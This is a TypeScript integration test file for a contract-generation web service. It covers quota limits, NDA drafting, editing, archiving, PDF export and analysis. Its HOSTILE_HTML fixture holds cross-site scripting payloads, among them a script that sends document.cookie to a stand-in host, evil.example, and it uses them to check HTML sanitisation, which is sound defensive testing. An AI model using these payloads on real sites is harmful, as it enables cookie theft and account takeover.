import { generatedHtmlToText } from '@doclens/api';
import { findMonthlyUsage, usagePeriodOf } from '@doclens/db';
import { startGenerationService } from '@doclens/generation';
import type { RunningService } from '@doclens/service-runtime';
import { createTestLogger, waitFor } from '@doclens/testing';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDocumentsHarness, type DocumentsHarness } from './documents-harness';

let harness: DocumentsHarness;
let worker: RunningService;

beforeAll(async () => {
  harness = await createDocumentsHarness();
  worker = await startGenerationService(harness.config, createTestLogger());
});

afterAll(async () => {
  await worker?.stop();
  await harness?.dispose();
});

const NDA = {
  documentType: 'Non-Disclosure Agreement',
  parameters: {
    'Disclosing Party': 'Orbital Labs Inc.',
    'Receiving Party': 'Keystone Partners LLC',
    'Your Party': 'Disclosing Party',
    Purpose: 'evaluating an investment',
    'Effective Date': 'February 3, 2025',
    'Confidentiality Period': 'three (3) years',
    'Governing Law': 'the State of Delaware',
  },
};

const HOSTILE_HTML = [
  '<h1 onclick="steal()" style="text-align:center;background:url(https://evil.example/x)">Edited title</h1>',
  '<script>fetch("https://evil.example/"+document.cookie)</script>',
  '<p>Paragraph <a href="javascript:alert(1)">click</a><img src=x onerror="alert(1)"><style>*{}</style></p>',
  '<iframe src="https://evil.example"></iframe><p style="position:fixed">kept text</p>',
].join('');
const EXECUTABLE = ['<script', 'onclick', 'onerror', 'javascript:', '<iframe', '<style', 'url(', '<a ', '<img'];

async function generate(cookie: string, body: object = NDA) {
  return harness.api({ method: 'POST', url: '/api/generate-document', cookie, body });
}

async function setUploadsThisMonth(userId: string, uploads: number): Promise<void> {
  await harness.db
    .insertInto('monthlyUsage')
    .values({ userId, period: usagePeriodOf(new Date()), uploads })
    .onConflict((conflict) => conflict.columns(['userId', 'period']).doUpdateSet({ uploads }))
    .execute();
}

describe('plan and quota gating', () => {
  it('refuses a free user with the upgrade answer and counts nothing', async () => {
    const { user, cookie } = await harness.signIn('free');
    const response = await generate(cookie);
    expect(response.statusCode).toBe(403);
    expect(response.json().message).toMatch(/Pro and Enterprise plans\. Upgrade your plan/);
    expect((await findMonthlyUsage(harness.db, user.id)).total).toBe(0);
  });

  it('refuses a signed-out client', async () => {
    expect((await harness.api({ method: 'POST', url: '/api/generate-document', body: NDA })).statusCode).toBe(401);
  });

  it("counts a pro user's generation with their uploads; the 101st document of the month is refused", async () => {
    const { user, cookie } = await harness.signIn('pro');
    await setUploadsThisMonth(user.id, 99);
    const hundredth = await generate(cookie);
    expect(hundredth.statusCode).toBe(200);
    expect(await findMonthlyUsage(harness.db, user.id)).toMatchObject({ uploads: 99, generations: 1, total: 100 });
    const hundredAndFirst = await generate(cookie);
    expect(hundredAndFirst.statusCode).toBe(403);
    expect(hundredAndFirst.json().message).toBe(
      "Monthly document limit reached. You've used 100/100 documents this month. Upgrade your plan to generate more.",
    );
    const listed = await harness.api({ url: '/api/generated-documents', cookie });
    expect(listed.json().documents).toHaveLength(1);
  });

  it('counts parallel requests atomically: at 97 of 100, five at once give exactly three documents', async () => {
    const { user, cookie } = await harness.signIn('pro');
    await setUploadsThisMonth(user.id, 97);
    const answers = await Promise.all(Array.from({ length: 5 }, () => generate(cookie)));
    expect(answers.map((answer) => answer.statusCode).sort()).toEqual([200, 200, 200, 403, 403]);
    expect((await findMonthlyUsage(harness.db, user.id)).total).toBe(100);
  });

  it('lets an enterprise user generate without a limit', async () => {
    const { user, cookie } = await harness.signIn('enterprise');
    await setUploadsThisMonth(user.id, 5000);
    expect((await generate(cookie)).statusCode).toBe(200);
  });
});

describe('generate, edit, save as new, export', () => {
  let cookie: string;
  let id: number;

  beforeAll(async () => {
    ({ cookie } = await harness.signIn('pro'));
    const response = await generate(cookie);
    expect(response.json()).toMatchObject({ status: 'generating', documentType: 'Non-Disclosure Agreement' });
    id = response.json().id;
  });

  it('the worker writes the NDA: generating → draft, with the filled clauses', async () => {
    const document = await waitFor('the draft', async (): Promise<{ generatedContent: string } | undefined> => {
      const response = await harness.api({ url: `/api/generated-documents/${id}`, cookie });
      return response.json().status === 'draft' ? response.json() : undefined;
    });
    const text = generatedHtmlToText(document.generatedContent);
    expect(text).toContain('Non-Disclosure Agreement');
    expect(text).toContain(
      'This Agreement shall be governed by and construed in accordance with the laws of the State of Delaware',
    );
    expect(text).not.toContain('[To fill:');
  });

  it('PATCH stores and serves nothing executable from hostile HTML', async () => {
    const saved = await harness.api({
      method: 'PATCH',
      url: `/api/generated-documents/${id}`,
      cookie,
      body: { title: 'My NDA', generatedContent: HOSTILE_HTML, notes: '  check clause 5  ' },
    });
    expect(saved.statusCode).toBe(200);
    const stored = await harness.db
      .selectFrom('generatedDocuments')
      .selectAll()
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
    const served = (await harness.api({ url: `/api/generated-documents/${id}`, cookie })).json();
    for (const html of [stored.generatedContent, served.generatedContent]) {
      for (const executable of EXECUTABLE) expect(html).not.toContain(executable);
      expect(html).toContain('<h1 style="text-align:center">Edited title</h1>');
      expect(html).toContain('kept text');
    }
    expect(served).toMatchObject({ title: 'My NDA', notes: 'check clause 5' });
  });

  it('refuses a blank title', async () => {
    const response = await harness.api({
      method: 'PATCH',
      url: `/api/generated-documents/${id}`,
      cookie,
      body: { title: '  ' },
    });
    expect(response.statusCode).toBe(400);
  });

  it('Save As New stores a sanitised copy as a draft at once, without counting a generation', async () => {
    const { ownerId } = await harness.db
      .selectFrom('generatedDocuments')
      .select('ownerId')
      .where('id', '=', id)
      .executeTakeFirstOrThrow();
    const before = await findMonthlyUsage(harness.db, ownerId);
    const response = await generate(cookie, {
      documentType: 'Non-Disclosure Agreement',
      parameters: { content: 'copy' },
      title: 'NDA copy',
      generatedContent: HOSTILE_HTML,
    });
    expect(response.statusCode).toBe(200);
    const copy = response.json();
    expect(copy).toMatchObject({ title: 'NDA copy', status: 'draft' });
    expect(copy.id).not.toBe(id);
    for (const executable of EXECUTABLE) expect(copy.generatedContent).not.toContain(executable);
    const after = await findMonthlyUsage(harness.db, ownerId);
    expect(after.total).toBe(before.total);
  });

  it('archive toggles, and the list shows the state', async () => {
    const archived = await harness.api({ method: 'POST', url: `/api/generated-documents/${id}/archive`, cookie });
    expect(archived.json().status).toBe('archived');
    const restored = await harness.api({ method: 'POST', url: `/api/generated-documents/${id}/archive`, cookie });
    expect(restored.json().status).toBe('draft');
  });

  it('exports a real PDF of the document', async () => {
    const response = await harness.api({
      method: 'POST',
      url: '/api/generate-pdf',
      cookie,
      body: { title: 'My NDA', content: '<h1>My NDA</h1><p>Clause text</p>', documentId: id },
    });
    expect(response.statusCode).toBe(200);
    expect(Buffer.from(response.json().pdfData, 'base64').subarray(0, 5).toString()).toBe('%PDF-');
  });

  it('analyses the generated contract from the chosen role and keeps the result', async () => {
    const response = await harness.api({
      method: 'POST',
      url: `/api/generated-documents/${id}/analyze`,
      cookie,
      body: { role: 'client' },
    });
    expect(response.statusCode).toBe(200);
    expect(response.json().analysisRole).toBe('client');
    expect(response.json().analysis.documentType).toBe('contract');
    expect(['high', 'medium', 'low']).toContain(response.json().riskLevel);
  });

  it('counts in the dashboard stats: generated, and archived once archived', async () => {
    const before = (await harness.api({ url: '/api/dashboard/stats', cookie })).json();
    expect(before).toMatchObject({ generated: 2, total: 2, uploaded: 0, archived: 0 });
    await harness.api({ method: 'POST', url: `/api/generated-documents/${id}/archive`, cookie });
    const after = (await harness.api({ url: '/api/dashboard/stats', cookie })).json();
    expect(after).toMatchObject({ generated: 1, total: 1, archived: 1 });
  });
});

describe('what the generator says of its drafts', () => {
  it('tells the generator page that the built-in provider gives outlines, not full drafts', async () => {
    const { cookie } = await harness.signIn('pro');
    const response = await harness.api({ url: '/api/generator-settings', cookie });
    expect(response.statusCode).toBe(200);
    expect(response.json()).toEqual({ writesFullDrafts: false });
  });

  it("titles each side's draft of one template after the side, so the two are told apart in the list", async () => {
    const { cookie } = await harness.signIn('pro');
    const asReceiver = { ...NDA, parameters: { ...NDA.parameters, 'Your Party': 'Receiving Party' } };
    for (const body of [NDA, asReceiver]) expect((await generate(cookie, body)).statusCode).toBe(200);
    const titles = await waitFor('both drafts', async () => {
      const { documents } = (await harness.api({ url: '/api/generated-documents', cookie })).json<{
        documents: Array<{ status: string; title: string }>;
      }>();
      const drafts = documents.filter((document) => document.status === 'draft');
      return drafts.length === 2 ? drafts.map((document) => document.title).sort() : undefined;
    });
    expect(titles).toEqual([
      'Non-Disclosure Agreement (disclosing party draft)',
      'Non-Disclosure Agreement (receiving party draft)',
    ]);
  });
});
